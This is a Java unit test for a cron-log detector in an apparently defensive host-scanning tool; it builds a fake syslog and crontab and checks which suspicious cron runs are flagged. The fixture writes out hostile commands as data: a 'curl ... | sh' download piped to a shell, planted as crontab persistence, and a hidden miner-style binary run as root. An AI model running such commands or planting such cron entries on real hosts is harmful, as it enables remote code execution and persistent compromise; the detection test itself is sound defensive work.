package dev.ward.detect.builtin;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.ward.collect.Scan;
import dev.ward.collect.logs.AuthLogCollector;
import dev.ward.collect.logs.LoginLedger;
import dev.ward.detect.Results;
import dev.ward.host.HostRoot;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Instant;
import java.time.InstantSource;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CronLogDetectorTest {
    @TempDir
    Path dir;

    /**
     * Debian's syslog holds cron's lines (and, on a host configured so, others): only cron's are
     * taken from it. One suspicious command is still in a crontab, the other was removed.
     */
    @Test
    void commandsCronRanFromSyslog() throws Exception {
        Path log = dir.resolve("var/log/syslog");
        Files.createDirectories(log.getParent());
        Files.writeString(log, """
                Nov 20 04:17:01 web1 CRON[4100]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)
                Nov 20 04:18:01 web1 CRON[4101]: (www-data) CMD (curl -s http://203.0.113.9/x | sh)
                Nov 20 04:19:01 web1 CRON[4102]: (www-data) CMD (curl -s http://203.0.113.9/x | sh)
                Nov 20 04:19:01 web1 CRON[4103]: (root) CMD (/dev/shm/.x/kworker -o pool.example:3333)
                Nov 20 04:19:30 web1 sshd[4200]: Failed password for root from 198.51.100.4 port 4242 ssh2
                Nov 20 05:17:01 web1 CRON[4104]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)
                """);
        Files.setLastModifiedTime(log, FileTime.from(Instant.parse("2026-11-21T00:00:00Z")));
        Path crontab = dir.resolve("var/spool/cron/crontabs/www-data");
        Files.createDirectories(crontab.getParent());
        Files.writeString(crontab, "* * * * * curl -s http://203.0.113.9/x | sh\n");
        try (HostRoot root = HostRoot.open(dir)) {
            Scan scan = new Scan(root, InstantSource.system());
            Results out = new Results();
            new CronLogDetector(new AuthLogCollector()).detect(scan, out);
            assertEquals(List.of(
                    "high linux.logs.cron_ran_suspicious_command cron ran /dev/shm/.x/kworker -o pool.example:3333 as root "
                            + "1 time(s), 2026-11-20T04:19:01Z to 2026-11-20T04:19:01Z (runs /dev/shm/.x/kworker); "
                            + "no cron table holds it now",
                    "high linux.logs.cron_ran_suspicious_command cron ran curl -s http://203.0.113.9/x | sh as www-data "
                            + "2 time(s), 2026-11-20T04:18:01Z to 2026-11-20T04:19:01Z (download piped to a shell); "
                            + "still in /var/spool/cron/crontabs/www-data"),
                    out.findings().stream().map(f -> f.severity().label() + " " + f.check() + " " + f.summary()).toList());
            LoginLedger ledger = LoginLedger.of(scan, new AuthLogCollector());
            assertEquals(Map.of(), ledger.failuresBySource());
            assertEquals(2, ledger.cronCommands().get("root").get("cd / && run-parts --report /etc/cron.hourly").runs());
        }
    }
}
